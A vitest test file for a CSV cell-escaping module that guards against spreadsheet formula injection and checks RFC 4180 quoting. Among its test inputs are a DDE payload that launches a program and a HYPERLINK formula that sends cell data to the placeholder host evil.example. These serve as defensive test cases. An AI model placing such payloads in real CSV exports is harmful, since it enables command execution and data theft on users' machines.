import { describe, expect, it } from 'vitest';
import { csvCell, csvLine } from './csv-cell.js';

describe('csvCell', () => {
  describe('when a text starts like a formula (OWASP CSV injection)', () => {
    it.each([
      ['=1+2', `"'=1+2"`],
      ['+cmd|" /C calc"!A0', `"'+cmd|"" /C calc""!A0"`],
      ['-2+3', `"'-2+3"`],
      ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
      ['\t=1', `"'\t=1"`],
      ['\r=1', `"'\r=1"`],
      ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
    ])('neutralizes %j with a leading quote, quoted', (value, cell) => {
      expect(csvCell(value)).toBe(cell);
    });
  });

  describe('when a value is ordinary', () => {
    it('keeps plain text and numbers as they are, negative numbers included', () => {
      expect(csvCell('Login')).toBe('Login');
      expect(csvCell('a=b')).toBe('a=b');
      expect(csvCell(2001)).toBe('2001');
      expect(csvCell(-1)).toBe('-1');
      expect(csvCell(true)).toBe('true');
    });

    it('quotes separators, quotes and line breaks (RFC 4180)', () => {
      expect(csvCell('a,b')).toBe('"a,b"');
      expect(csvCell('say "hi"')).toBe('"say ""hi"""');
      expect(csvCell('line 1\nline 2')).toBe('"line 1\nline 2"');
    });

    it('writes null as an empty cell and objects as JSON', () => {
      expect(csvCell(null)).toBe('');
      expect(csvCell(undefined)).toBe('');
      expect(csvCell({ login: 'carol' })).toBe('"{""login"":""carol""}"');
    });
  });
});

describe('csvLine', () => {
  it('joins cells with commas and ends with CRLF', () => {
    expect(csvLine(['=x', 1, null, 'a,b'])).toBe(`"'=x",1,,"a,b"\r\n`);
  });
});
